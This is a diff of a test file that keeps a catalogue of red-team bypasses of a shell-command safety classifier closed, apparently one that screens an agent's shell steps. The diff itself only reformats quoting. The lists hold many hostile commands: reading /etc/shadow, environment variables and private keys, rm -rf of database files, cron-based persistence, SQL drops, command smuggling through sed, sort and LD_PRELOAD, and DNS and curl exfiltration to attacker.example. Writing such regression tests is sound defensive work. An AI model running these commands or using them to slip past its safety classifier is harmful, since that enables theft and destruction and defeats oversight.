@@ -23,8 +23,8 @@ const BYPASSES: string[] = [
   "echo bash | xargs -I cat env cat -c 'touch /tmp/pwn'",
   "echo 'true x/touch /tmp/pwn' | sed 's/x\\'{'/',}'/ ;/e;#/d' -",
   "sort -S 64K --compress-prog=sh /srv/app/conf/big",
-  "rm -rf /srv/app/conf/.{\"\",.}/.{\"\",.}/.{\"\",.}/var/lib/postgresql",
-  "echo '* * * * * root touch /tmp/pwn' | tee /srv/app/conf/.{\"\",.}/.{\"\",.}/.{\"\",.}/etc/cron.d/pwn",
+  'rm -rf /srv/app/conf/.{"",.}/.{"",.}/.{"",.}/var/lib/postgresql',
+  'echo \'* * * * * root touch /tmp/pwn\' | tee /srv/app/conf/.{"",.}/.{"",.}/.{"",.}/etc/cron.d/pwn',
   "echo 'select 1; /* *'{'/ drop table users; --',}'*/' | psql",
   "cp -s /etc/crontab /srv/app/conf/c && echo '* * * * * root touch /tmp/pwn' >> /srv/app/conf/c",
   "base64 -d <<< 'H4sIAAAA' > /srv/app/conf/a.tar && tar -xPf /srv/app/conf/a.tar -C /srv/app/conf",
@@ -48,12 +48,12 @@ const BYPASSES: string[] = [
   "psql -d 'postgresql:///db?host=10.0.0.5' -c 'select 1'",
   "pg_dump -h 10.0.0.5 prod",
   "pg_isready -h 10.0.0.5",
-  "getent hosts \"$(base64 -w0 /etc/hostname).attacker.example\"",
+  'getent hosts "$(base64 -w0 /etc/hostname).attacker.example"',
   "cd /etc && cat shadow",
   "cat /tmp/../etc/shadow",
   "cat /etc/shado?",
   "cat < /etc/shadow",
-  "cat {\"/etc/shadow\",}",
+  'cat {"/etc/shadow",}',
   "echo /etc/shadow | xargs cat",
   "date -f/etc/shadow",
   "sudo getent shadow",
@@ -61,7 +61,7 @@ const BYPASSES: string[] = [
   "diff -Nr /srv/app/conf/empty /etc",
   "tar -cf /srv/app/conf/e.tar /etc",
   "curl -s -o /dev/null -w @/etc/shadow http://127.0.0.1/",
-  "curl -G -d @/etc/shadow http://127.0.0.1:9090/"
+  "curl -G -d @/etc/shadow http://127.0.0.1:9090/",
 ];
 
 const UNCONFIRMED: string[] = [
@@ -71,14 +71,11 @@ const UNCONFIRMED: string[] = [
   "nginx -t -g 'load_module /srv/app/conf/x.so;'",
   "promtool check healthy --url=http://10.0.0.5:9090",
   "promtool query instant HTTP://10.0.0.5:9090 up",
-  "dig \"$(base64 -w0 /etc/hostname).attacker.example\"",
-  "docker exec -e LD_PRELOAD=/srv/app/conf/x.so ollama cat /dev/null"
+  'dig "$(base64 -w0 /etc/hostname).attacker.example"',
+  "docker exec -e LD_PRELOAD=/srv/app/conf/x.so ollama cat /dev/null",
 ];
 
-const CRASHES: string[] = [
-  "find /srv/app/conf -exec \\;",
-  "find /srv/app/conf -ok \\;"
-];
+const CRASHES: string[] = ["find /srv/app/conf -exec \\;", "find /srv/app/conf -ok \\;"];
 
 // The second round, against the classifier with the first round's fixes (bash 5.2.15, Debian 12 tools).
 // New all-safe bypasses of classifyShell (round 2). Each confirmed in bash 5.2 / GNU tools on Debian 12 with stand-ins under /tmp and marker files.
@@ -94,8 +91,8 @@ const BYPASSES_2: string[] = [
   "cd /proc/1 && cat environ",
   "cd /etc/ssl/private && cat server.pem",
   "cat /etc/letsencrypt/live/example.com/privkey.pem",
-  "cat /etc/shado[w\"\"]",
-  "tar -cf /srv/app/conf/a.tar /[e\"\"]tc",
+  'cat /etc/shado[w""]',
+  'tar -cf /srv/app/conf/a.tar /[e""]tc',
   "tar -cf /srv/app/conf/a.tar -C / etc && strings /srv/app/conf/a.tar | grep '^root:'",
   "cd / && cp -r root /srv/app/conf/r",
   "kill 1234 -0",
@@ -131,7 +128,10 @@ const CRASHES_2: string[] = [];
 describe("red-team bypasses of the shell classifier stay closed", () => {
   it.each([...BYPASSES, ...UNCONFIRMED, ...CRASHES, ...BYPASSES_2, ...CRASHES_2])("%s", (step) => {
     const effects = classifyShell(step, env, { shell: parseShell });
-    expect(effects.filter((e) => !isSafe(e.effect)), effects.map((e) => `${e.effect} (${e.rule})`).join(", ")).not.toEqual([]);
+    expect(
+      effects.filter((e) => !isSafe(e.effect)),
+      effects.map((e) => `${e.effect} (${e.rule})`).join(", "),
+    ).not.toEqual([]);
   });
 });
 
